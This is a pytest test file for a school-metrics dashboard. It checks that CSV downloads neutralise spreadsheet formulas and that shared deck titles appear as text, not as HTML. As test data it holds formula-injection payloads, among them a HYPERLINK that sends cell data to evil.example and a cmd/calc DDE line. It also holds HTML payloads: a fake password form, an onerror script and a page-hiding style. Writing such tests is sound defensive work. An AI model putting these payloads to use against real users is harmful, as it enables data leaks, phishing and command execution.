"""Hostile text: names that are spreadsheet formulas never reach a download as
formulas, and no user text (a shared deck's title) reaches the page as HTML.

A school or district name is data from CDE's directory and the initiative's
files; a deck title comes from whoever made the link. Both are shown, never
run: CSV cells are neutralised (csi_metrics.figures.downloads), text for HTML and for
Plotly's labels is escaped (csi_metrics.figures.charts.plain_text)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import polars as pl
import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

import metrics_fixtures as mf
from csi_metrics.figures import downloads
from csi_metrics.views import deck
from csi_metrics import report
from fixture_paths import REPO
import support

pytestmark = pytest.mark.app

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1:A9)",
            "=1+1", "|calc", "%0A=1"]
Y, P = "2023-24", "2022-23"


def _is_formula(cell: str) -> bool:
    if not cell or cell[0] not in "=+-@|%":
        return False
    try:
        float(cell.replace(",", ""))
        return False  # a negative number is a number
    except ValueError:
        return True


def test_downloads_module_neutralises_formulas_and_leaves_numbers():
    df = pl.DataFrame({"name": FORMULAS, "change_pp": [-1.5] * len(FORMULAS), "n": [-3] * len(FORMULAS)})
    rows = list(csv.reader(io.StringIO(downloads.csv_bytes(df, terms=False).decode())))
    assert rows[0] == ["name", "change_pp", "n"]
    for (name, change, n), original in zip(rows[1:], FORMULAS):
        assert name == "'" + original.replace("|", "\\|") and not _is_formula(name)
        assert (change, n) == ("-1.5", "-3")


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "csi.duckdb"
    con = support.new_database(path)
    mf.add_district(con, mf.district_code(1), name=FORMULAS[4])
    for i, name in enumerate(FORMULAS[:4]):
        code = mf.cds(1, i + 1)
        mf.add_school(con, code, spa=1 + i, community=True, cohort=1, first_grant_year=P, name=name,
                      district_name=FORMULAS[4])
        con.execute("UPDATE schools SET latitude = 34.05 + ?, longitude = -118.25 WHERE cds_code = ?",
                    [0.01 * i, code])
        for year in (P, Y):
            for metric in ("chronic_absenteeism", "suspension"):
                mf.add_outcome(con, metric, year, code, 20 + i, 200)
        mf.add_grant(con, f"G{i}", code, 500_000, year=P)
    mf.add_grant(con, "GL", mf.district_code(1) + "0000000", 200_000, level="LEA", grant_type="planning", year=P)
    con.execute("INSERT INTO build_info VALUES ('mode', 'real'), ('built_at', '2026-12-01T00:00:00')")
    con.close()
    return path


@pytest.fixture
def captured(monkeypatch):
    got: list[tuple[str, bytes]] = []
    original = DeltaGenerator.download_button

    def recording(self, label, data=None, file_name=None, *args, **kwargs):
        if isinstance(data, (bytes, str)) and str(file_name or "").endswith(".csv"):
            got.append((str(file_name), data.encode() if isinstance(data, str) else data))
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    main = st._main
    monkeypatch.setattr(st, "download_button", lambda *a, **k: recording(main, *a, **k))
    return got


@pytest.mark.parametrize("page,controls", [
    ("pages/schools.py", {}),
    ("pages/map.py", {}),
    ("pages/funding.py", {"awards_by": "district"}),
])
def test_no_download_carries_a_formula(hostile_db, captured, monkeypatch, page, controls):
    monkeypatch.setenv("CSI_DB", str(hostile_db))
    monkeypatch.chdir(REPO)
    at = AppTest.from_file(str(REPO / "dashboard.py"), default_timeout=120)
    for k, v in controls.items():
        at.query_params[k] = v
    at.run()
    at.switch_page(page).run()
    assert not at.exception, [e.message for e in at.exception]
    assert captured, "the page offered no CSV"
    seen_hostile = 0
    for name, data in captured:
        for row in csv.reader(io.StringIO(data.decode("utf-8"))):
            for cell in row:
                assert not _is_formula(cell), (name, cell)
                seen_hostile += cell.startswith("'")
    assert seen_hostile > 0, "the hostile names never reached a download: the test proves nothing"


def test_report_csv_carries_no_formula(hostile_db):
    import argparse

    p = argparse.ArgumentParser()
    report.add_arguments(p)
    buf = io.StringIO()
    assert report.run(p.parse_args(["--db", str(hostile_db), "--metric", "suspension", "--by", "school",
                                    "--format", "csv"]), out=buf) == 0
    cells = [c for row in csv.reader(io.StringIO(buf.getvalue())) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells) and not any(_is_formula(c) for c in cells)


# ---------------------------------------------------------------- HTML through a shared deck link

# (title, a word of it that must still reach the viewer as text)
HOSTILE_TITLES = [
    ('<form action="https://evil.example/login"><input type="password" name="p"><button>Sign in</button></form>',
     "Sign in"),
    ('<a href="https://evil.example">Click for the real numbers</a>', "Click"),
    ("<style>body { display: none !important; }</style>", "display"),
    ('<img src=x onerror="alert(1)">', "alert"),
    ("**bold** [link](https://evil.example) <b>b</b>", "bold"),
]


def _deck_link(title: str) -> str:
    d = deck.Deck(title=title, views=(deck.make_view("trends", "chronic_absenteeism_trend", title=title),))
    return deck.to_link_param(d)


@pytest.mark.parametrize("title,word", HOSTILE_TITLES)
def test_a_hostile_deck_title_is_shown_as_text_never_as_html(demo_db, monkeypatch, title, word):
    monkeypatch.setenv("CSI_DB", str(demo_db))
    monkeypatch.chdir(REPO)
    at = AppTest.from_file(str(REPO / "dashboard.py"), default_timeout=120)
    at.query_params["deck"] = _deck_link(title)
    at.run()
    at.switch_page("pages/present.py").run()
    assert not at.exception, [e.message for e in at.exception]
    html_blocks = [m.value for m in at.markdown if m.proto.allow_html] + [h.proto.body for h in at.get("html")]
    for block in html_blocks:
        for tag in ("<form", "<input", "<a ", "<style>body", "<img"):
            assert tag not in block, (tag, block[:200])
    # No Markdown from it either: no link, no emphasis.
    for m in at.markdown:
        assert "](https://evil.example)" not in m.value.replace("\\", "") or "\\]" in m.value, m.value
    # The title still reaches the viewer, as text.
    assert word in " ".join(m.value for m in at.markdown)
    # The chart's title: Plotly renders <a href>, <b>, <i> and <br> in its labels.
    for chart in at.get("plotly_chart"):
        spec = json.loads(chart.proto.spec)
        text = (spec["layout"].get("title") or {}).get("text", "")
        assert "<a " not in text and "<form" not in text and "<b>b</b>" not in text, text
